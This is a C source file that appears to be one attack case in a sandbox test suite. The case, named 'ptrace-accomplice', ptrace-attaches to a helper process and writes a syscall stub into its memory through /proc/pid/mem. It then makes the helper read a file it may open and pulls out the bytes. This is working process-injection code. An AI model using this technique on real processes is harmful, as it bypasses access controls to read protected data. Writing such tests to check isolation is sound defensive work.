/* SPDX-License-Identifier: Apache-2.0 */
#include "attack.h"

#include <signal.h>
#include <sys/ptrace.h>
#include <sys/user.h>

#include "accomplice.h"

/* Makes a permitted process read for us: its memory is ours once it is traced. */
static void run(void)
{
	pid_t accomplice;
	int theirs, memory;
	char path[64];

	if (accomplice_start(&accomplice, &theirs) < 0) {
		step_failed("open by the accomplice");
		return;
	}
	if (ptrace(PTRACE_ATTACH, accomplice, NULL, NULL) < 0) {
		step_failed("ptrace attach");
	} else {
		waitpid(accomplice, NULL, __WALL);
#if defined(__x86_64__)
		struct user_regs_struct saved, call;
		char bytes[256] = { 0 };
		unsigned char code[] = { 0x0f, 0x05, 0xcc }; /* syscall; int3 */

		ptrace(PTRACE_GETREGS, accomplice, NULL, &saved);
		snprintf(path, sizeof(path), "/proc/%d/mem", accomplice);
		memory = open(path, O_RDWR | O_CLOEXEC);
		call = saved;
		call.rax = 17; /* pread64 */
		call.orig_rax = (unsigned long long)-1;
		call.rdi = (unsigned)theirs;
		call.rsi = saved.rsp - 4096;
		call.rdx = sizeof(bytes);
		call.r10 = 0;
		if (memory < 0 || pwrite(memory, code, sizeof(code), (off_t)saved.rip) < 0) {
			step_failed("write to the accomplice's memory");
		} else {
			ptrace(PTRACE_SETREGS, accomplice, NULL, &call);
			ptrace(PTRACE_CONT, accomplice, NULL, NULL);
			waitpid(accomplice, NULL, __WALL);
			if (pread(memory, bytes, sizeof(bytes), (off_t)call.rsi) > 0)
				holds_secret(bytes, sizeof(bytes), "read by the traced accomplice");
		}
#else
		(void)memory;
		(void)path;
		errno = ENOSYS;
		step_failed("no injection code for this architecture");
#endif
	}
	kill(accomplice, SIGKILL);
	waitpid(accomplice, NULL, 0);
}

ATTACK(.name = "ptrace-accomplice", .goals = READ, .blocked_source = true)
